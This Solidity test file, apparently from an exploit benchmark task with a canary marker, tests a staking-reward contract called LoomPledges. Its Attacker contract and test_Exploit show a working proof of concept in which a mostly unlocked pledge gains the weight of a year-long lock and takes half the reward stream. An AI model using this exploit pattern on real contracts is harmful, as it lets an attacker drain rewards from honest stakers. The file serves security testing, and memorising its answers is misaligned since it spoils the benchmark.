// SPDX-License-Identifier: MPL-2.0
pragma solidity 0.8.24;

// assay-canary-8750a6e4-aa71-44bf-bb7a-16db4692172b

import "./LoomPledges.sol";

interface Vm {
    function prank(address who) external;
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
}

contract Spool is IThread {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Weaver {
    LoomPledges internal loom;

    constructor(LoomPledges loom_, Spool thread) {
        loom = loom_;
        thread.approve(address(loom_), type(uint256).max);
    }

    function pledge(uint128 amount, uint64 term) public {
        loom.pledge(amount, term);
    }

    function takeBack(uint256 lot) public returns (uint256) {
        return loom.takeBack(lot);
    }

    function takePrize() public returns (uint256) {
        return loom.takePrize();
    }
}

/// A weaver with 1,000 threads who would like the weight of the longest term and none of its patience.
contract Attacker is Weaver {
    constructor(LoomPledges loom_, Spool thread) Weaver(loom_, thread) {}

    function begin() external {
        pledge(999e18, 0);
        pledge(1e18, 360 days);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;

    Spool public thread;
    Spool public prize;
    LoomPledges public loom;
    Weaver public patient;
    Attacker public hasty;

    function setUp() public {
        vm.warp(START);
        thread = new Spool();
        prize = new Spool();
        loom = new LoomPledges(thread, prize);
        patient = new Weaver(loom, thread);
        hasty = new Attacker(loom, thread);
        thread.mint(address(patient), 1_000e18);
        thread.mint(address(hasty), 1_000e18);
        prize.mint(address(this), 1e30);
        prize.approve(address(loom), type(uint256).max);
        patient.pledge(1_000e18, 360 days);
        loom.startStream(90 days * 1e15, 90 days);
    }

    /// Whether the attacker's weight is that of its lots, each weighed by the time it is bound for.
    function weightIsEarned() public view returns (bool) {
        LoomPledges.Lot[] memory lots = loom.lotsOf(address(hasty));
        uint256 earned;
        for (uint256 i = 0; i < lots.length; i++) {
            earned += (lots[i].amount * Terms.weight(lots[i].freeAt - lots[i].madeAt)) / Terms.ONE;
        }
        return loom.weightOf(address(hasty)) <= earned + lots.length + 1;
    }

    function _near(uint256 a, uint256 b) internal pure returns (bool) {
        return a + 1e6 >= b && b + 1e6 >= a;
    }

    function test_Regular() public {
        uint256 second = 1e15;

        // Alone, then beside thread without a term: three to one.
        vm.warp(START + 10 days);
        require(_near(patient.takePrize(), 10 days * second), "alone");
        hasty.pledge(1_000e18, 0);
        require(loom.weightOf(address(hasty)) == 1_000e18 && loom.totalWeight() == 4_000e18, "weights");
        vm.warp(START + 30 days);
        require(_near(patient.takePrize(), 15 days * second), "three quarters");
        require(_near(hasty.takePrize(), 5 days * second), "one quarter");
        require(weightIsEarned(), "no term");

        // Bound thread stays, the other goes.
        try patient.takeBack(0) {
            revert("bound");
        } catch {}
        require(hasty.takeBack(0) == 1_000e18 && loom.totalWeight() == 3_000e18, "taken back");
        try hasty.takeBack(0) {
            revert("nothing left");
        } catch {}

        // An empty pledge may begin with another term, which then stands.
        hasty.pledge(400e18, 90 days);
        require(loom.weightOf(address(hasty)) == 600e18, "weight of 90 days");
        try hasty.pledge(100e18, 180 days) {
            revert("another term");
        } catch {}
        try hasty.pledge(100e18, 0) {
            revert("no term");
        } catch {}
        try hasty.pledge(100e18, 91 days) {
            revert("not on offer");
        } catch {}
        vm.warp(START + 60 days);
        hasty.pledge(600e18, 90 days);
        require(loom.weightOf(address(hasty)) == 1_500e18 && weightIsEarned(), "two lots");
        vm.warp(START + 120 days);
        hasty.takeBack(0);
        require(loom.weightOf(address(hasty)) == 900e18, "one lot");
        try hasty.takeBack(0) {
            revert("second lot is bound");
        } catch {}
        loom.setShut(true);
        try patient.pledge(1, 360 days) {
            revert("shut");
        } catch {}
        loom.startStream(10 days * second, 10 days);

        vm.prank(address(patient));
        loom.extend(0);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Pledges of something, not too many, while the loom is open.
    function test_RefusesPledges() public {
        refuses(address(hasty), WeightedStream.StewardOnly.selector);
        loom.setShut(true);
        refuses(address(hasty), LoomPledges.NothingPledged.selector);
        loom.pledge(0, 0);
        for (uint256 i = 0; i < 32; ++i) hasty.pledge(1, 0);
        refuses(address(hasty), LoomPledges.TooManyLots.selector);
        loom.pledge(1, 0);
        refuses(address(hasty), LoomPledges.NoSuchLot.selector);
        loom.takeBack(32);
        refuses(address(hasty), LoomPledges.NoSuchLot.selector);
        loom.extend(32);
        loom.setShut(true);
        refuses(address(patient), LoomPledges.Closed.selector);
        loom.pledge(1, 360 days);
    }

    /// Thread that says no is believed.
    function test_RefusesFailedTransfers() public {
        hasty.pledge(1, 0);
        thread.sleep(true);
        refuses(address(hasty), WeightedStream.TransferRefused.selector);
        loom.pledge(1, 0);
        refuses(address(hasty), WeightedStream.TransferRefused.selector);
        loom.takeBack(0);
    }

    function exploit() public {
        hasty.begin();
        vm.warp(block.timestamp + 30 days);
        hasty.takePrize();
    }

    function test_Exploit() public {
        exploit();
        require(!weightIsEarned() && loom.weightOf(address(hasty)) == 3_000e18, "weight of a bound pledge");
        hasty.takeBack(0);
        require(prize.balanceOf(address(hasty)) >= (15 days - 1) * 1e15, "half of the prizes");
        require(thread.balanceOf(address(hasty)) == 999e18, "and the thread is back");
    }

    function target() public view returns (address) {
        return address(loom);
    }

    function attacker() public view returns (address) {
        return address(hasty);
    }
}
